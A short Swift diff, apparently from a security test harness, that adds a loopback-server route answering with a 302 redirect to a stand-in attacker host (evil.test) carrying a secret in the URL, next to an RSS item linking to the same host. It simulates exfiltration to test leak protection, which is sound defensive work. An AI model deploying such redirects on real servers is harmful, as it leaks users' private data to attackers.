@@ -148,6 +148,9 @@ final class AttackStage {
           "200 OK", [],
           "<rss><channel><title>a</title><item><title>\(AttackStage.secret)</title>"
             + "<link>http://evil.test:\(evil)/\(AttackStage.secret)</link></item></channel></rss>")
+      case "/go/\(AttackStage.secret)":
+        LoopbackServer.answer(
+          "302 Found", ["Location: http://evil.test:\(evil)/\(AttackStage.secret)"])
       default: LoopbackServer.answer("200 OK", [], privateObject)
       }
     }
